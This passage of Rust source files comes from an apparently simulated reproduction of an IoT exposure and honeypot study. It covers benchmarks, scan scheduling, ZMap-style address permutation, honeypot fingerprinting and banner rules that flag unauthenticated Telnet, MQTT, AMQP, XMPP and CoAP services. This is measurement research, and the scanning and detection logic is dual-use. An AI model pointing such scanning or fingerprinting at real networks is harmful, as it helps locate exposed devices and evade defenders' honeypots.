            "  \"obs_overhead\": {{ \"quick_run_obs_off_s\": {off:.3}, \"quick_run_obs_on_s\": {on:.3}, \"overhead_pct\": {pct:.2} }},\n"
        ));
    }
    if let Some((off, on, pct)) = obs_live_overhead {
        // Heartbeat + live stream + armed flight recorder vs default obs.
        json.push_str(&format!(
            "  \"obs_live_overhead\": {{ \"quick_run_live_off_s\": {off:.3}, \"quick_run_live_on_s\": {on:.3}, \"overhead_pct\": {pct:.2} }},\n"
        ));
    }
    if let Some((none_s, hostile_s, pct)) = fault_overhead {
        // Same-run operands, positive = active faults cost this much.
        json.push_str(&format!(
            "  \"fault_overhead\": {{ \"quick_run_none_s\": {none_s:.3}, \"quick_run_hostile_s\": {hostile_s:.3}, \"overhead_pct\": {pct:.2} }},\n"
        ));
    }
    {
        // The primary recorded ratio is heap-vs-wheel from this same run —
        // the old recorded 801 µs heap baseline measured a faster machine
        // state and stopped reproducing here, so it is no longer emitted.
        let same_run = match (
            bench_ns(&h, "event_queue/schedule_pop_4k"),
            bench_ns(&h, "event_queue/heap_pop_4k"),
        ) {
            (Some(w), Some(hp)) => format!("{:.2}", hp / w),
            _ => "null".into(),
        };
        json.push_str(&format!(
            "  \"event_queue\": {{ \"same_run_heap_over_wheel\": {same_run} }},\n"
        ));
    }
    json.push_str(&format!(
        "  \"paper_scale\": {{ \"smoke_run_s\": {}, \"scale_run_s\": {}, \"scale_budget_s\": 600, \"shards\": 64 }},\n",
        paper_smoke_s.map_or("null".into(), |s| format!("{s:.3}")),
        paper_scale_s.map_or("null".into(), |s| format!("{s:.1}"))
    ));
    if let Some((w1, w_cores, cores)) = scaling {
        // `workers_auto` is workers=0 (one per core); a literal per-core key
        // would collide with the workers1 key on a 1-core host.
        json.push_str(&format!(
            "  \"scaling\": {{ \"paper_smoke_shards64_workers1_s\": {w1:.3}, \"paper_smoke_shards64_workers_auto_s\": {w_cores:.3}, \"host_cores\": {cores}, \"grid\": \"BENCH_scaling.json\" }},\n"
        ));
    }
    json.push_str(&format!(
        "  \"full_run\": {{ \"baseline_s\": {FULL_RUN_BASELINE_S}, \"current_s\": {} }}\n",
        full_run_s.map_or("null".into(), |s| format!("{s:.1}"))
    ));
    json.push_str("}\n");
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_hotpath.json");
    match std::fs::write(path, &json) {
        Ok(()) => println!("wrote {path}"),
        Err(e) => eprintln!("could not write {path}: {e}"),
    }
}
