//! Sharded-engine benchmarks: the same quick-profile study at different
//! worker-thread counts. The reports are byte-identical (the determinism
//! suite proves it); this bench shows what the parallelism buys in wall
//! clock — workers=8 should land measurably below workers=1 in release.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use ofh_core::{Study, StudyConfig};

fn run_quick(seed: u64, workers: usize) -> usize {
    let mut cfg = StudyConfig::quick(seed);
    cfg.workers = workers;
    Study::new(cfg).run().table7.total_events as usize
}

fn shard_workers(c: &mut Criterion) {
    let mut g = c.benchmark_group("sharding/quick_study");
    g.sample_size(10);
    for workers in [1usize, 2, 8] {
        g.bench_function(format!("workers={workers}"), |b| {
            b.iter(|| black_box(run_quick(5, workers)))
        });
    }
    g.finish();

    // A direct single-shot comparison alongside the sampled numbers, so the
    // speedup headline survives even in the stand-in harness's test mode.
    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    let t1 = std::time::Instant::now();
    let a = run_quick(5, 1);
    let serial = t1.elapsed();
    let t8 = std::time::Instant::now();
    let b = run_quick(5, 8);
    let parallel = t8.elapsed();
    assert_eq!(a, b, "worker count changed the trace");
    eprintln!(
        "[sharding] quick study on {cores} core(s): workers=1 {serial:?} vs \
         workers=8 {parallel:?} ({:.2}x)",
        serial.as_secs_f64() / parallel.as_secs_f64().max(1e-9)
    );
    if cores == 1 {
        eprintln!(
            "[sharding] single-core host: extra workers can only add scheduler \
             overhead; the speedup needs >=2 cores (reports stay identical either way)"
        );
    }
}

criterion_group!(benches, shard_workers);
criterion_main!(benches);
