//! Microbenchmarks for the hot paths: address permutation, protocol codecs,
//! SHA-256, FlowTuple ingest.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

use ofh_intel::sha256::sha256;
use ofh_net::{ip, FlowKind, FlowObservation, SimTime, Transport};
use ofh_scan::AddressPermutation;
use ofh_telescope::Telescope;
use ofh_net::sim::FlowTap;

fn permutation(c: &mut Criterion) {
    let mut g = c.benchmark_group("micro/permutation");
    for size in [1u64 << 16, 1 << 20] {
        g.throughput(Throughput::Elements(size));
        g.bench_function(format!("iterate_2^{}", size.trailing_zeros()), |b| {
            b.iter(|| {
                let mut acc = 0u64;
                for v in AddressPermutation::new(size, 9) {
                    acc ^= v;
                }
                black_box(acc)
            })
        });
    }
    g.finish();
}

fn codecs(c: &mut Criterion) {
    let mut g = c.benchmark_group("micro/codecs");
    let mqtt = ofh_wire::mqtt::Packet::Publish {
        topic: "homeassistant/light/kitchen/state".into(),
        packet_id: None,
        payload: vec![0x55; 64],
        qos: 0,
        retain: true,
    };
    let mqtt_wire = mqtt.encode();
    g.throughput(Throughput::Bytes(mqtt_wire.len() as u64));
    g.bench_function("mqtt_decode", |b| {
        b.iter(|| black_box(ofh_wire::mqtt::Packet::decode(&mqtt_wire).unwrap()))
    });

    let coap = ofh_wire::coap::Message::well_known_core_request(7);
    let coap_wire = coap.encode();
    g.throughput(Throughput::Bytes(coap_wire.len() as u64));
    g.bench_function("coap_decode", |b| {
        b.iter(|| black_box(ofh_wire::coap::Message::decode(&coap_wire).unwrap()))
    });

    let telnet = b"\xff\xfd\x1f\xff\xfb\x01PK5001Z login:\r\nroot@device:~$ ";
    g.throughput(Throughput::Bytes(telnet.len() as u64));
    g.bench_function("telnet_visible_text", |b| {
        b.iter(|| black_box(ofh_wire::telnet::visible_text(telnet)))
    });

    let s7 = ofh_wire::s7::S7Message::job(1, ofh_wire::s7::function::READ_VAR, &[1, 2, 3]).encode();
    g.bench_function("s7_decode", |b| {
        b.iter(|| black_box(ofh_wire::s7::S7Message::decode(&s7).unwrap()))
    });
    g.finish();
}

fn hashing(c: &mut Criterion) {
    let mut g = c.benchmark_group("micro/sha256");
    for size in [256usize, 4_096, 65_536] {
        let data = vec![0xABu8; size];
        g.throughput(Throughput::Bytes(size as u64));
        g.bench_function(format!("{size}B"), |b| b.iter(|| black_box(sha256(&data))));
    }
    g.finish();
}

fn flowtuple_ingest(c: &mut Criterion) {
    let mut g = c.benchmark_group("micro/telescope");
    let obs = FlowObservation {
        time: SimTime(1234),
        src: ip(9, 8, 7, 6),
        dst: ip(16, 0, 1, 2),
        src_port: 40_000,
        dst_port: 23,
        transport: Transport::Tcp,
        kind: FlowKind::TcpSyn,
        ttl: 44,
        tcp_flags: FlowObservation::SYN,
        tcp_window: 65_535,
        ip_len: 60,
        payload: Default::default(),
        spoofed: false,
    };
    g.throughput(Throughput::Elements(10_000));
    g.bench_function("ingest_10k_flows", |b| {
        b.iter(|| {
            let mut t = Telescope::new(ofh_intel::GeoDb::new());
            for i in 0..10_000u64 {
                let mut o = obs.clone();
                o.time = SimTime(i * 100);
                t.observe(&o);
            }
            black_box(t.total_records())
        })
    });
    g.finish();
}

criterion_group!(benches, permutation, codecs, hashing, flowtuple_ingest);
criterion_main!(benches);
