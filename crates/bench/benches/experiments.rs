//! Per-experiment benchmarks: each group times the pipeline that
//! regenerates one of the paper's tables/figures (at bench scale), so
//! regressions in any stage of the reproduction show up here.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;
use std::net::Ipv4Addr;

use ofh_core::{Study, StudyConfig};
use ofh_devices::population::{PopulationBuilder, PopulationSpec};
use ofh_devices::Universe;
use ofh_fingerprint::{engine, FingerprintProber, SignatureDb};
use ofh_honeypots::{WildHoneypot, WildHoneypotAgent};
use ofh_net::{SimNet, SimNetConfig, SimTime};
use ofh_scan::{scan_start, Scanner, ScannerConfig};
use ofh_wire::Protocol;

fn bench_universe() -> Universe {
    Universe::new(Ipv4Addr::new(16, 0, 0, 0), 14)
}

/// One Telnet sweep over a populated universe: the Table 4/5 engine.
fn scan_sweep(seed: u64) -> ofh_scan::ScanResults {
    let universe = bench_universe();
    let population = PopulationBuilder::new(PopulationSpec {
        universe,
        scale: 65_536,
        seed,
    })
    .build();
    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    population.attach_all(&mut net);
    let cfg = ScannerConfig::full(
        Protocol::Telnet,
        universe.cidr().first(),
        universe.size(),
        scan_start(Protocol::Telnet),
        seed,
    );
    let end = Scanner::estimated_end(&cfg);
    let id = net.attach(universe.scanner_addr(), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
    net.run_until(end);
    net.agent_downcast_mut::<Scanner>(id).unwrap().results.clone()
}

fn table4_and_5(c: &mut Criterion) {
    let mut g = c.benchmark_group("experiments");
    g.sample_size(10);
    g.bench_function("table4_table5_scan_sweep", |b| {
        b.iter(|| black_box(scan_sweep(3)).len())
    });
    let results = scan_sweep(3);
    g.bench_function("table5_classify", |b| {
        b.iter(|| {
            black_box(
                ofh_analysis::table5::Table5::compute(&results, &Default::default()).total,
            )
        })
    });
    g.finish();
}

fn table6_fingerprint(c: &mut Criterion) {
    let universe = bench_universe();
    let mut g = c.benchmark_group("experiments");
    g.sample_size(10);
    g.bench_function("table6_fingerprint_hunt", |b| {
        b.iter(|| {
            let seed = 5;
            let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
            let lab = universe.honeypot_lab();
            // Deploy one instance of every family.
            let mut addr = u32::from(lab.first());
            let mut candidates = Vec::new();
            for family in WildHoneypot::ALL {
                if family == WildHoneypot::Kippo {
                    continue;
                }
                let a = Ipv4Addr::from(addr);
                addr += 1;
                net.attach(a, Box::new(WildHoneypotAgent::new(family)));
                candidates.push((a, 23u16, family));
            }
            let n = candidates.len();
            let prober = net.attach(
                universe.scanner_addr(),
                Box::new(FingerprintProber::new(candidates)),
            );
            net.run_until(SimTime::ZERO + FingerprintProber::estimated_duration(n));
            black_box(net.agent_downcast::<FingerprintProber>(prober).unwrap().report.total())
        })
    });
    // Passive stage alone over realistic scan results.
    let results = scan_sweep(5);
    let db = SignatureDb::new();
    g.bench_function("table6_passive_matching", |b| {
        b.iter(|| black_box(engine::passive_candidates(&db, &results).len()))
    });
    g.finish();
}

/// The honeypot-month and telescope experiments, and the headline join,
/// all ride the full study; bench it at a tiny preset.
fn full_study(c: &mut Criterion) {
    let mut g = c.benchmark_group("experiments");
    g.sample_size(10);
    let cfg = StudyConfig {
        universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 14),
        scan_scale: 65_536,
        hp_scale: 2_048,
        month_days: 10,
        ..StudyConfig::quick(11)
    };
    g.bench_function("table7_table8_headline_full_study", |b| {
        b.iter(|| {
            let report = Study::new(cfg.clone()).run();
            black_box((report.table7.total_events, report.infected.total))
        })
    });
    g.finish();
}

fn figures(c: &mut Criterion) {
    let results = scan_sweep(7);
    let mut g = c.benchmark_group("experiments");
    g.bench_function("fig2_device_types", |b| {
        b.iter(|| black_box(ofh_analysis::figures::Fig2::compute(&results).cells.len()))
    });
    // Figs 3/4/5/7/8/9 over a synthetic event log.
    let report = Study::new(StudyConfig {
        universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 14),
        scan_scale: 65_536,
        hp_scale: 1_024,
        month_days: 10,
        ..StudyConfig::quick(13)
    })
    .run();
    g.bench_function("fig4_fig7_attack_typing", |b| {
        b.iter(|| {
            black_box(
                ofh_analysis::figures::AttackTypeBreakdown::compute(&report.dataset)
                    .cells
                    .len(),
            )
        })
    });
    g.bench_function("fig8_timeline", |b| {
        b.iter(|| {
            black_box(
                ofh_analysis::figures::Fig8::compute(
                    &report.dataset,
                    report.config.month_start(),
                    report.config.month_days,
                    &[],
                )
                .per_day
                .len(),
            )
        })
    });
    g.finish();
}

criterion_group!(benches, table4_and_5, table6_fingerprint, full_study, figures);
criterion_main!(benches);
