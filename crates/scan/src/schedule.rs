//! The scan calendar — Appendix Table 9.
//!
//! "The scans for all the six protocols were completed in a week between
//! March 1–5 2021." Each protocol's sweep starts at midnight UTC of its
//! Table 9 date (the simulation epoch is 2021-03-01).

use ofh_net::{SimDate, SimTime};
use ofh_wire::Protocol;

/// The Table 9 scan date for a protocol.
pub fn scan_date(protocol: Protocol) -> SimDate {
    match protocol {
        Protocol::Coap => SimDate::new(2021, 3, 1),
        Protocol::Upnp => SimDate::new(2021, 3, 2),
        Protocol::Telnet => SimDate::new(2021, 3, 2),
        Protocol::Mqtt => SimDate::new(2021, 3, 4),
        Protocol::Amqp => SimDate::new(2021, 3, 4),
        Protocol::Xmpp => SimDate::new(2021, 3, 5),
        // Non-scanned protocols default to the campaign start.
        _ => SimDate::new(2021, 3, 1),
    }
}

/// The simulation instant a protocol's sweep begins.
pub fn scan_start(protocol: Protocol) -> SimTime {
    SimTime::from_date(scan_date(protocol))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dates_match_table9() {
        assert_eq!(scan_date(Protocol::Coap), SimDate::new(2021, 3, 1));
        assert_eq!(scan_date(Protocol::Upnp), SimDate::new(2021, 3, 2));
        assert_eq!(scan_date(Protocol::Telnet), SimDate::new(2021, 3, 2));
        assert_eq!(scan_date(Protocol::Mqtt), SimDate::new(2021, 3, 4));
        assert_eq!(scan_date(Protocol::Amqp), SimDate::new(2021, 3, 4));
        assert_eq!(scan_date(Protocol::Xmpp), SimDate::new(2021, 3, 5));
    }

    #[test]
    fn all_within_one_week() {
        let start = scan_start(Protocol::Coap);
        for p in Protocol::SCANNED {
            let d = scan_start(p).since(start);
            assert!(d.as_secs() <= 7 * 86_400);
        }
    }

    #[test]
    fn coap_is_day_zero() {
        assert_eq!(scan_start(Protocol::Coap), SimTime::ZERO);
        assert_eq!(scan_start(Protocol::Xmpp).day_index(), 4);
    }
}
