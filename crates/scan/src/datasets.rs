//! Open-dataset providers — Project Sonar and Shodan.
//!
//! §3.1.2 correlates the ZMap results with open Internet-scan datasets. The
//! paper explains the deltas in Table 4 mechanistically: Sonar scans fewer
//! ports (port 23 only for Telnet, no AMQP/XMPP datasets at all) and
//! scanning services are subject to allow-listing; Shodan's crawler covers a
//! protocol-dependent slice of the space. We reproduce both as *independent
//! scanners* over the same simulated Internet:
//!
//! * **Project Sonar** — full sweeps on the primary port only, no AMQP/XMPP,
//!   with per-protocol coverage factors fitted from Table 4;
//! * **Shodan** — primary-port sweeps with per-protocol sampling rates
//!   fitted from Table 4 (its CoAP coverage is excellent, its Telnet
//!   coverage famously thin).
//!
//! Coverage factors are *inputs from the paper's published ratios*; the
//! resulting dataset contents are measured by actually probing.

use std::net::Ipv4Addr;

use ofh_net::SimTime;
use ofh_wire::Protocol;

use crate::scanner::ScannerConfig;

/// Sonar's per-protocol coverage (Table 4: Sonar count / ZMap count, after
/// removing the port effect which the single-port sweep reproduces by
/// construction). `None` = no dataset for this protocol.
pub fn sonar_coverage(protocol: Protocol) -> Option<f64> {
    match protocol {
        // 6,004,956 / 7,096,465 = 0.846 ≈ exactly the port-23-only share
        // (1 - 0.154); the sweep's port restriction models it, so sampling
        // stays at 1.0.
        Protocol::Telnet => Some(1.0),
        // 3,921,585 / 4,842,465.
        Protocol::Mqtt => Some(0.81),
        // 438,098 / 618,650.
        Protocol::Coap => Some(0.708),
        // 395,331 / 1,381,940.
        Protocol::Upnp => Some(0.286),
        Protocol::Amqp | Protocol::Xmpp => None,
        _ => None,
    }
}

/// Shodan's per-protocol coverage (Table 4: Shodan count / ZMap count).
pub fn shodan_coverage(protocol: Protocol) -> Option<f64> {
    match protocol {
        Protocol::Telnet => Some(0.0265),
        Protocol::Mqtt => Some(0.0335),
        Protocol::Coap => Some(0.955),
        Protocol::Upnp => Some(0.3137),
        Protocol::Amqp => Some(0.5414),
        Protocol::Xmpp => Some(0.7452),
        _ => None,
    }
}

/// Build the sweep set for the Sonar provider.
pub fn sonar_configs(base: Ipv4Addr, size: u64, start_at: SimTime, seed: u64) -> Vec<ScannerConfig> {
    Protocol::SCANNED
        .iter()
        .filter_map(|&p| {
            let coverage = sonar_coverage(p)?;
            let mut cfg = ScannerConfig::full(p, base, size, start_at, seed ^ 0x50_4E_41_52);
            cfg.ports = vec![p.port()]; // primary port only
            cfg.sample_rate = coverage;
            Some(cfg)
        })
        .collect()
}

/// Build the sweep set for the Shodan provider.
pub fn shodan_configs(base: Ipv4Addr, size: u64, start_at: SimTime, seed: u64) -> Vec<ScannerConfig> {
    Protocol::SCANNED
        .iter()
        .filter_map(|&p| {
            let coverage = shodan_coverage(p)?;
            let mut cfg = ScannerConfig::full(p, base, size, start_at, seed ^ 0x53_48_4F_44);
            cfg.ports = vec![p.port()];
            cfg.sample_rate = coverage;
            Some(cfg)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::ip;

    #[test]
    fn sonar_lacks_amqp_and_xmpp() {
        assert!(sonar_coverage(Protocol::Amqp).is_none());
        assert!(sonar_coverage(Protocol::Xmpp).is_none());
        let configs = sonar_configs(ip(16, 4, 0, 0), 100, SimTime::ZERO, 1);
        assert_eq!(configs.len(), 4);
        assert!(configs.iter().all(|c| c.ports.len() == 1));
    }

    #[test]
    fn shodan_covers_all_six_partially() {
        let configs = shodan_configs(ip(16, 4, 0, 0), 100, SimTime::ZERO, 1);
        assert_eq!(configs.len(), 6);
        assert!(configs.iter().all(|c| c.sample_rate <= 1.0));
        // Shodan's Telnet coverage is famously thin, its CoAP rich.
        assert!(shodan_coverage(Protocol::Telnet).unwrap() < 0.05);
        assert!(shodan_coverage(Protocol::Coap).unwrap() > 0.9);
    }

    #[test]
    fn coverage_ratios_match_table4() {
        // Spot-check the fitted values against the paper's quotients.
        let r = sonar_coverage(Protocol::Mqtt).unwrap();
        assert!((r - 3_921_585.0 / 4_842_465.0).abs() < 0.01);
        let r = shodan_coverage(Protocol::Xmpp).unwrap();
        assert!((r - 315_861.0 / 423_867.0).abs() < 0.01);
    }
}
