//! ZMap-style address iteration.
//!
//! ZMap visits the IPv4 space in a pseudorandom order by iterating the
//! cyclic multiplicative group of integers modulo a prime `p` slightly
//! larger than the space: starting from a random element, repeatedly
//! multiplying by a primitive root visits every value in `[1, p)` exactly
//! once, and values above the target range are skipped. The effect is that
//! consecutive probes land in unrelated networks — no destination subnet
//! sees a burst (the `zmap_permutation` ablation bench quantifies this
//! against a linear sweep).
//!
//! This module implements the full machinery for arbitrary range sizes:
//! deterministic Miller-Rabin primality, trial-division factoring of `p-1`,
//! and primitive-root search.

/// Deterministic Miller-Rabin for `u64` (the standard 12-witness set is
/// sufficient for all 64-bit integers).
pub fn is_prime(n: u64) -> bool {
    if n < 2 {
        return false;
    }
    for p in [2u64, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37] {
        if n == p {
            return true;
        }
        if n % p == 0 {
            return false;
        }
    }
    let mut d = n - 1;
    let mut r = 0u32;
    while d % 2 == 0 {
        d /= 2;
        r += 1;
    }
    'witness: for a in [2u64, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37] {
        let mut x = mod_pow(a, d, n);
        if x == 1 || x == n - 1 {
            continue;
        }
        for _ in 0..r - 1 {
            x = mod_mul(x, x, n);
            if x == n - 1 {
                continue 'witness;
            }
        }
        return false;
    }
    true
}

fn gcd(mut a: u64, mut b: u64) -> u64 {
    while b != 0 {
        (a, b) = (b, a % b);
    }
    a
}

fn mod_mul(a: u64, b: u64, m: u64) -> u64 {
    ((a as u128 * b as u128) % m as u128) as u64
}

/// `mod_mul` specialised for moduli below 2^32: the product fits in a
/// `u64`, so one native multiply + remainder replaces the 128-bit path.
/// The permutation's inner loop (one modular multiply per visited address,
/// across every sweep replica of every shard) runs on this.
#[inline]
fn mod_mul_small(a: u64, b: u64, m: u64) -> u64 {
    debug_assert!(a < m && b < m && m <= u32::MAX as u64 + 1);
    (a * b) % m
}

fn mod_pow(mut base: u64, mut exp: u64, m: u64) -> u64 {
    let mut acc = 1u64;
    base %= m;
    while exp > 0 {
        if exp & 1 == 1 {
            acc = mod_mul(acc, base, m);
        }
        base = mod_mul(base, base, m);
        exp >>= 1;
    }
    acc
}

/// The smallest prime `>= n`.
pub fn next_prime(mut n: u64) -> u64 {
    if n <= 2 {
        return 2;
    }
    if n % 2 == 0 {
        n += 1;
    }
    while !is_prime(n) {
        n += 2;
    }
    n
}

/// Distinct prime factors of `n` by trial division (fine for n < 2^40,
/// far beyond any address-space size we permute).
pub fn prime_factors(mut n: u64) -> Vec<u64> {
    let mut out = Vec::new();
    let mut d = 2u64;
    while d * d <= n {
        if n % d == 0 {
            out.push(d);
            while n % d == 0 {
                n /= d;
            }
        }
        d += if d == 2 { 1 } else { 2 };
    }
    if n > 1 {
        out.push(n);
    }
    out
}

/// Find a primitive root modulo prime `p`.
pub fn primitive_root(p: u64) -> u64 {
    if p == 2 {
        return 1;
    }
    let factors = prime_factors(p - 1);
    'candidate: for g in 2..p {
        for &q in &factors {
            if mod_pow(g, (p - 1) / q, p) == 1 {
                continue 'candidate;
            }
        }
        return g;
    }
    unreachable!("every prime has a primitive root");
}

/// A pseudorandom permutation of `[0, size)`, ZMap style.
///
/// Iterates the cyclic group ⟨g⟩ of Z_p^* for the smallest prime
/// `p > size`, mapping group elements `x` to addresses `x - 1` and skipping
/// those `>= size`. The starting element is derived from a seed, so
/// different scans traverse in different orders while each scan remains a
/// bijection.
#[derive(Debug, Clone)]
pub struct AddressPermutation {
    p: u64,
    g: u64,
    size: u64,
    current: u64,
    first: u64,
    done: bool,
}

impl AddressPermutation {
    /// Create a permutation of `[0, size)`. `size` must be at least 1.
    pub fn new(size: u64, seed: u64) -> AddressPermutation {
        assert!(size >= 1, "empty address space");
        let p = next_prime(size + 1);
        // Randomize the generator as ZMap does: raise a primitive root to a
        // seed-derived exponent coprime with p-1. A small fixed root (often
        // 2 or 3) would make consecutive probes arithmetically related and
        // cluster them in nearby subnets.
        let root = primitive_root(p);
        let g = if p == 2 {
            1
        } else {
            let mut e = 1 + ofh_net::rng::splitmix64(seed ^ 0xA5A5) % (p - 1);
            // Walk forward until the exponent is coprime with p-1; e = 1 is
            // always coprime, so this terminates (a re-hash chain can cycle
            // through non-coprime values forever).
            while gcd(e, p - 1) != 1 {
                e = e % (p - 1) + 1;
            }
            mod_pow(root, e, p)
        };
        // Any element of [1, p) works as a start.
        let first = 1 + ofh_net::rng::splitmix64(seed) % (p - 1);
        AddressPermutation {
            p,
            g,
            size,
            current: first,
            first,
            done: false,
        }
    }

    /// The group modulus (for tests/diagnostics).
    pub fn modulus(&self) -> u64 {
        self.p
    }

    /// The generator in use.
    pub fn generator(&self) -> u64 {
        self.g
    }
}

impl Iterator for AddressPermutation {
    type Item = u64;

    fn next(&mut self) -> Option<u64> {
        let small = self.p <= u32::MAX as u64 + 1;
        while !self.done {
            let value = self.current - 1; // group element -> offset
            self.current = if small {
                mod_mul_small(self.current, self.g, self.p)
            } else {
                mod_mul(self.current, self.g, self.p)
            };
            if self.current == self.first {
                self.done = true;
            }
            if value < self.size {
                return Some(value);
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primality_known_values() {
        assert!(is_prime(2));
        assert!(is_prime(3));
        assert!(is_prime(65_537));
        assert!(is_prime(4_294_967_311)); // ZMap's 2^32 + 15
        assert!(!is_prime(1));
        assert!(!is_prime(4_294_967_297)); // 641 * 6700417 (Fermat F5)
        assert!(!is_prime(561)); // Carmichael
    }

    #[test]
    fn next_prime_values() {
        assert_eq!(next_prime(1 << 20), 1_048_583);
        assert_eq!(next_prime(14), 17);
        assert_eq!(next_prime(17), 17);
    }

    #[test]
    fn factoring() {
        assert_eq!(prime_factors(12), vec![2, 3]);
        assert_eq!(prime_factors(97), vec![97]);
        assert_eq!(prime_factors(1_048_582), vec![2, 29, 101, 179]);
    }

    #[test]
    fn primitive_root_is_generator() {
        let p = 1_048_583u64;
        let g = primitive_root(p);
        for &q in &prime_factors(p - 1) {
            assert_ne!(mod_pow(g, (p - 1) / q, p), 1);
        }
    }

    #[test]
    fn permutation_is_bijection_small() {
        for size in [1u64, 2, 7, 100, 1000, 4096] {
            let visited: Vec<u64> = AddressPermutation::new(size, 42).collect();
            assert_eq!(visited.len() as u64, size, "size {size}");
            let mut sorted = visited.clone();
            sorted.sort_unstable();
            sorted.dedup();
            assert_eq!(sorted.len() as u64, size, "size {size} has duplicates");
            assert_eq!(*sorted.last().unwrap(), size - 1);
        }
    }

    #[test]
    fn different_seeds_different_orders() {
        let a: Vec<u64> = AddressPermutation::new(1000, 1).take(20).collect();
        let b: Vec<u64> = AddressPermutation::new(1000, 2).take(20).collect();
        assert_ne!(a, b);
        // Same seed: identical.
        let c: Vec<u64> = AddressPermutation::new(1000, 1).take(20).collect();
        assert_eq!(a, c);
    }

    #[test]
    fn probes_spread_across_subnets() {
        // The point of the permutation: consecutive probes rarely share the
        // top bits. Compare against a linear sweep over 2^16 "addresses"
        // grouped into 256 "/24s".
        let size = 1u64 << 16;
        let perm: Vec<u64> = AddressPermutation::new(size, 7).take(256).collect();
        let distinct_subnets: std::collections::HashSet<u64> =
            perm.iter().map(|a| a >> 8).collect();
        // A linear sweep hits exactly 1 subnet in its first 256 probes; a
        // uniform scatter over 256 bins yields ~256·(1-(1-1/256)^256) ≈ 162
        // distinct bins. Require the scatter regime, far from linear.
        assert!(
            distinct_subnets.len() > 120,
            "only {} distinct /24s in first 256 probes",
            distinct_subnets.len()
        );
    }
}
