//! The misconfiguration classifier — Tables 2 and 3 as executable rules.
//!
//! Input is the normalized banner/response text a probe produced; output is
//! the misconfiguration class, if any. Rules are transcribed from the
//! paper's indicator tables:
//!
//! | protocol | indicator | class |
//! |---|---|---|
//! | Telnet | `root@…$` / `admin@…$` | no auth, **root** console |
//! | Telnet | `$` | no auth, console |
//! | MQTT | `MQTT Connection Code:0` | connection accepted with no auth |
//! | AMQP | version 2.7.1 / 2.8.4 (or ANONYMOUS) | no auth |
//! | XMPP | `MECHANISM <ANONYMOUS>` | anonymous login |
//! | XMPP | `MECHANISM <PLAIN>` | no encryption |
//! | CoAP | `220-Admin` | admin-access connection |
//! | CoAP | `220` / `x1C` | connected session / full access |
//! | CoAP | resource listing | reflection-attack resource |
//! | UPnP | `upnp:rootdevice` disclosure | reflection-attack resource |

use ofh_devices::Misconfig;
use ofh_wire::Protocol;

/// Classify a normalized response. `None` = exposed but not misconfigured.
pub fn classify_response(protocol: Protocol, text: &str) -> Option<Misconfig> {
    match protocol {
        Protocol::Telnet => {
            let has_dollar = text.contains('$');
            if (text.contains("root@") || text.contains("admin@")) && has_dollar {
                Some(Misconfig::TelnetNoAuthRoot)
            } else if has_dollar {
                Some(Misconfig::TelnetNoAuth)
            } else {
                None
            }
        }
        Protocol::Mqtt => {
            if text.contains("MQTT Connection Code:0") {
                Some(Misconfig::MqttNoAuth)
            } else {
                None
            }
        }
        Protocol::Amqp => {
            if text.contains("Version: 2.7.1")
                || text.contains("Version: 2.8.4")
                || text.contains("ANONYMOUS")
            {
                Some(Misconfig::AmqpNoAuth)
            } else {
                None
            }
        }
        Protocol::Xmpp => {
            if text.contains("<mechanism>ANONYMOUS</mechanism>") {
                Some(Misconfig::XmppAnonymousLogin)
            } else if text.contains("<mechanism>PLAIN</mechanism>")
                && !text.contains("<required/>")
            {
                Some(Misconfig::XmppNoEncryption)
            } else {
                None
            }
        }
        Protocol::Coap => {
            if text.contains("220-Admin") {
                Some(Misconfig::CoapNoAuthAdmin)
            } else if text.contains("220 ") || text.contains("x1C") {
                Some(Misconfig::CoapNoAuth)
            } else if text.contains("rt: ") || text.contains("</") || has_resource_line(text) {
                Some(Misconfig::CoapReflection)
            } else {
                None
            }
        }
        Protocol::Upnp => {
            if text.contains("rootdevice") {
                Some(Misconfig::UpnpReflection)
            } else {
                None
            }
        }
        _ => None,
    }
}

/// Whether normalized CoAP text contains a resource path line (resource
/// disclosure without any session marker).
fn has_resource_line(text: &str) -> bool {
    text.lines().any(|l| l.starts_with('/') && l.len() > 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn telnet_rules() {
        assert_eq!(
            classify_response(Protocol::Telnet, "PK5001Z login:\nroot@device:~$ "),
            Some(Misconfig::TelnetNoAuthRoot)
        );
        assert_eq!(
            classify_response(Protocol::Telnet, "admin@cam:~$ "),
            Some(Misconfig::TelnetNoAuthRoot)
        );
        assert_eq!(
            classify_response(Protocol::Telnet, "BusyBox v1.19\n$ "),
            Some(Misconfig::TelnetNoAuth)
        );
        assert_eq!(classify_response(Protocol::Telnet, "192.168.0.64 login:"), None);
    }

    #[test]
    fn mqtt_rules() {
        assert_eq!(
            classify_response(Protocol::Mqtt, "MQTT Connection Code:0\ntopic: a/b\n"),
            Some(Misconfig::MqttNoAuth)
        );
        assert_eq!(
            classify_response(Protocol::Mqtt, "MQTT Connection Code:5\n"),
            None
        );
    }

    #[test]
    fn amqp_rules() {
        assert_eq!(
            classify_response(Protocol::Amqp, "Product: RabbitMQ\nVersion: 2.7.1\n"),
            Some(Misconfig::AmqpNoAuth)
        );
        assert_eq!(
            classify_response(Protocol::Amqp, "Version: 2.8.4\nMechanisms: PLAIN\n"),
            Some(Misconfig::AmqpNoAuth)
        );
        assert_eq!(
            classify_response(Protocol::Amqp, "Version: 3.8.9\nMechanisms: PLAIN AMQPLAIN\n"),
            None
        );
    }

    #[test]
    fn xmpp_rules() {
        assert_eq!(
            classify_response(
                Protocol::Xmpp,
                "<mechanisms><mechanism>ANONYMOUS</mechanism><mechanism>PLAIN</mechanism></mechanisms>"
            ),
            Some(Misconfig::XmppAnonymousLogin)
        );
        assert_eq!(
